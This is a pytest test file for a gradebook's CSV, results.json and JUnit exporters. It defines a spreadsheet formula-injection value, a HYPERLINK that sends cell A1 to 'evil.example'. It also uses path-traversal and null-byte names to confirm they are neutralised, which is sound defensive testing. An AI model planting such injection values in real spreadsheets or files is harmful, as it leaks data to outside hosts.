"""Exports of the gradebook: the CSV a spreadsheet opens, results.json per student, JUnit XML."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import xml.etree.ElementTree as ET
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader import export
from grader.cli import main
from grader.errors import ExportError
from grader.export import spreadsheet_safe, student_slugs, write_csv, write_junit
from grader.feedback import student_folders
from grader.gradebook import Gradebook, GradedNotebook
from grader.results import FAILED, PASSED, CheckResult, NotebookResult
from grader.submissions import Submission

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def record(gradebook: Gradebook, student: str, notebook: str, scores: list[float]) -> None:
    checks = tuple(
        CheckResult(notebook, "cell", f"check{i}", 1.0, score, PASSED if score else FAILED)
        for i, score in enumerate(scores)
    )
    submission = Submission(
        student, notebook, Path(f"{student}/{notebook}.ipynb"), f"{student}/{notebook}.ipynb",
        f"{student}{notebook}".ljust(64, "0")[:64], datetime(2026, 11, 20),
    )  # fmt: skip
    gradebook.record(submission, NotebookResult(notebook, submission.file, checks), "1", "v")


@pytest.fixture
def graded(tmp_path: Path) -> list[GradedNotebook]:
    with Gradebook(str(tmp_path / "gradebook.db")) as gradebook:
        record(gradebook, "alice", "01_a", [1.0, 1.0])
        record(gradebook, "alice", "02_b", [0.0])
        record(gradebook, "bob", "01_a", [0.0, 1.0])  # bob never handed in 02_b
        record(gradebook, HOSTILE, "02_b", [1.0])
        return gradebook.latest()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_has_a_row_per_student_and_a_column_per_check_notebook_and_total(
    graded: list[GradedNotebook], tmp_path: Path
) -> None:
    write_csv(graded, tmp_path / "grades.csv")
    rows = {row["student"]: row for row in read_csv(tmp_path / "grades.csv")}
    assert list(next(iter(rows.values()))) == [
        "student", "name",
        "01_a::cell::check0", "01_a::cell::check1", "01_a total",
        "02_b::cell::check0", "02_b total",
        "total", "max_total",
    ]  # fmt: skip
    assert rows["alice"]["01_a total"] == "2.0" and rows["alice"]["total"] == "2.0"
    assert rows["bob"]["01_a::cell::check0"] == "0.0" and rows["bob"]["02_b total"] == "missing"
    assert rows["bob"]["02_b::cell::check0"] == "missing"  # never handed in: not a score of 0
    assert rows["bob"]["total"] == "1.0" and rows["bob"]["max_total"] == "3.0"


def test_csv_names_cannot_become_formulas(graded: list[GradedNotebook], tmp_path: Path) -> None:
    write_csv(graded, tmp_path / "grades.csv")
    students = [row["student"] for row in read_csv(tmp_path / "grades.csv")]
    assert f"'{HOSTILE}" in students
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1"):
        assert spreadsheet_safe(cell).startswith("'")
    assert spreadsheet_safe("alice") == "alice"


def test_results_json_per_student_and_junit(graded: list[GradedNotebook], tmp_path: Path) -> None:
    db = str(tmp_path / "gradebook.db")
    out = tmp_path / "out"
    status = main(["export", "--db", db, "--results-dir", str(out), "--junit", str(out / "c.xml")])
    assert status == 0
    slugs = student_slugs(g.student for g in graded)
    alice = json.loads((out / "alice" / "results.json").read_text())
    assert (alice["score"], alice["max_score"]) == (2.0, 3.0)
    assert alice["extra_data"]["student"] == "alice" and alice["extra_data"]["missing"] == []
    bob = json.loads((out / "bob" / "results.json").read_text())
    # one maximum in every format: the CSV's max_total, 02_b (not handed in) included
    assert (bob["score"], bob["max_score"], bob["extra_data"]["missing"]) == (1.0, 3.0, ["02_b"])
    assert [t["name"] for t in alice["tests"]][-1] == "02_b::cell::check0"
    hostile = json.loads((out / slugs[HOSTILE] / "results.json").read_text())
    assert hostile["extra_data"]["student"] == HOSTILE
    suites = ET.parse(out / "c.xml").getroot().findall("testsuite")
    assert [s.get("name") for s in suites][:3] == [f"{HOSTILE}/02_b", "alice/01_a", "alice/02_b"]
    assert [s.get("failures") for s in suites] == ["0", "0", "1", "1"]


def test_export_needs_a_format(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--db", str(tmp_path / "g.db")]) == 2
    assert "say what to export" in capsys.readouterr().err


def test_slugs_are_safe_and_distinct() -> None:
    slugs = student_slugs(["Ann Lee", "Ann_Lee", "../..", "", "Zoë", "alice"])
    assert slugs["alice"] == "alice"
    assert len(set(slugs.values())) == 6
    for slug in slugs.values():
        assert slug and "/" not in slug and not slug.startswith(".")


def _hashed(slug: str, name: str, length: int = 10) -> str:
    return f"{slug}-{hashlib.sha256(name.encode()).hexdigest()[:length]}"


@pytest.mark.parametrize(
    "names",
    [
        # A student names a folder after another's hashed form, or its lower-case twin.
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee")],
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee").upper()],
        # ... after the longer fallback as well.
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee"), _hashed("Ann_Lee", "Ann Lee", 16)],
        # Names that clean to nothing, and one that names the fallback of those.
        ["", "..", "___", _hashed("student", "")],
        ["index.html", "INDEX.HTML", "index_html"],
    ],
)
def test_slugs_never_collide_after_any_transformation(names: list[str]) -> None:
    for slugs in (student_slugs(names), student_folders(names)):
        assert len({slug.lower() for slug in slugs.values()}) == len(names)
    assert "index.html" not in {slug.lower() for slug in student_folders(names).values()}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="aA_ .-/\\x00é", max_size=12), max_size=12))
def test_slugs_are_distinct_for_any_names(names: list[str]) -> None:
    slugs = student_folders(names)
    assert len({slug.lower() for slug in slugs.values()}) == len(set(names))
    for slug in slugs.values():
        assert slug and "/" not in slug and "\x00" not in slug and not slug.startswith(".")


def test_junit_labels_suites_by_student(graded: list[GradedNotebook], tmp_path: Path) -> None:
    write_junit(graded, tmp_path / "class.xml")
    root = ET.parse(tmp_path / "class.xml").getroot()
    assert len(root.findall("testsuite")) == len(graded)


def test_slugs_avoid_reserved_and_windows_device_names() -> None:
    slugs = student_slugs(["index.html", "INDEX.HTML", "nul", "Con.txt", "lpt1"], {"index.html"})
    for slug in slugs.values():
        assert slug.lower() != "index.html"
        assert slug.lower().split(".")[0] not in {"nul", "con", "lpt1"}
    assert len({slug.lower() for slug in slugs.values()}) == 5


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=100), max_size=12), st.sets(st.text(max_size=12), max_size=3))
def test_slugs_of_any_names_are_safe_distinct_and_never_reserved(
    names: list[str], reserved: set[str]
) -> None:
    slugs = student_slugs(names, reserved)
    assert set(slugs) == set(names)
    folded = [slug.lower() for slug in slugs.values()]
    assert len(set(folded)) == len(folded)
    assert not set(folded) & {name.lower() for name in reserved}
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", slug) for slug in slugs.values())


def test_export_creates_missing_folders(graded: list[GradedNotebook], tmp_path: Path) -> None:
    db, deep = str(tmp_path / "gradebook.db"), tmp_path / "not" / "yet"
    args = ["--csv", str(deep / "a" / "g.csv"), "--junit", str(deep / "b" / "c.xml")]
    assert main(["export", "--db", db, *args, "--results-dir", str(deep / "r")]) == 0
    assert read_csv(deep / "a" / "g.csv") and ET.parse(deep / "b" / "c.xml").getroot() is not None
    assert (deep / "r" / "alice" / "results.json").is_file()
    assert (deep / "a" / "g.csv").stat().st_mode & 0o777 == 0o644


def test_export_into_a_folder_that_cannot_be_made_is_one_line(
    graded: list[GradedNotebook], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("in the way")
    db = str(tmp_path / "gradebook.db")
    assert main(["export", "--db", db, "--csv", str(tmp_path / "file" / "g.csv")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "a file of that name is in the way" in err
    assert "Traceback" not in err
    assert main(["export", "--db", db, "--junit", str(tmp_path)]) == 2
    assert "it is a folder" in capsys.readouterr().err


def test_a_failed_write_keeps_the_previous_file_and_leaves_nothing(
    graded: list[GradedNotebook], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out" / "grades.csv"
    write_csv(graded, target)
    target.chmod(0o600)
    before = target.read_bytes()

    def fail(source: object, destination: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "replace", fail)
    with pytest.raises(ExportError, match="No space left on device"):
        write_csv(graded[:1], target)
    assert target.read_bytes() == before and list(target.parent.iterdir()) == [target]
    monkeypatch.undo()
    write_csv(graded[:1], target)
    assert target.read_bytes() != before and target.stat().st_mode & 0o777 == 0o600
